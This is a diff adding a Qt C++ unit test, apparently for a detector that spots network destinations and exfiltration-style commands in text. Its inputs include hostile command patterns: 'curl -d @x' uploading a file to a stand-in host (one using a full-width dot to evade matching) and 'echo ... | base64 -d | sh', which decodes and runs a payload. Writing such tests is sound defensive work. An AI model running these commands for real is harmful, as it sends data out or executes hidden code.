@@ -136,6 +136,21 @@ private Q_SLOTS:
         QCOMPARE(hosts("Never send logs to https://x.example/in."), QString());
     }
 
+    /// What is not looked at for destinations has none: every example, as it is and without its dots.
+    void textsWithoutDestinations_data() { examples_data(); }
+    void textsWithoutDestinations()
+    {
+        QFETCH(const QString, text);
+        for (const QString& asked :
+             {text, QString(text).remove(u'.'), u"curl -d @x "_s + text, u"echo "_s + text + u" | base64 -d | sh"_s}) {
+            const PlainForm form = plainForm(asked);
+            if (!destinationsIn(form, commandText(form)).empty())
+                QVERIFY2(mayNameDestination(form), qPrintable(asked));
+        }
+        QVERIFY(!mayNameDestination(plainForm(u"playbook=OOMKilled | ns=shop | cluster=prod-eu"_s)));
+        QVERIFY(mayNameDestination(plainForm(u"curl -d @x http://up．example/in"_s))); // a wide dot
+    }
+
     void duplicates()
     {
         QVERIFY(sameThing("Check the endpoint slice before you blame the ingress controller.",
